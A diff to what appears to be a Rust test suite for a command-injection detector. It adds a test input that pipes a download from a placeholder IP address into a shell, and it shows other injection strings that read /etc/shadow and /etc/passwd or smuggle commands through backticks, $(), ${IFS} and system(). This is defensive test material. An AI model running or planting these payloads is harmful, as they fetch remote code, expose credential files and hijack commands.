@@ -22,6 +22,7 @@ fn each_rule_has_an_attack_that_meets_it() {
         ("cmd-backtick", "a`whoami`"),
         ("cmd-dollar-paren", "$(cat /etc/shadow)"),
         ("cmd-bare", "cat /etc/passwd"),
+        ("cmd-fetch-run", "curl -fsS https://203.0.113.7/i | sh"),
         ("cmd-in-prose", "I tried `whoami` here"),
         ("cmd-function-call", "x'); system('ls'); //"),
         ("cmd-blank-variable", "a;cat${IFS}notes"),
@@ -386,7 +387,6 @@ static WHOLE: &[&str] = &[
     "ps|id",
     "pwd;env",
     "uname -a && id",
-    "ls\npwd",
     "a.example; ${q:-whoami}",
     "a.example; Q=ls $Q",
     "a.example; Q=id ${z:-$Q}",
@@ -575,7 +575,6 @@ static TALK: &[&str] = &[
     "let mut bash = Command::new(\"bash\")",
     "GIT_SSH_COMMAND='ssh -i ~/.ssh/x' npm install y",
     "$env:FLAGS=\"--cfg x\"; cargo doc --open; Remove-Item Env:\\FLAGS",
-    "curl --proto '=https' -sSf https://sh.rustup.rs | sh",
     "tag=\"$(sed -n p Cargo.toml | head -n 1)-v\"",
 ];
 
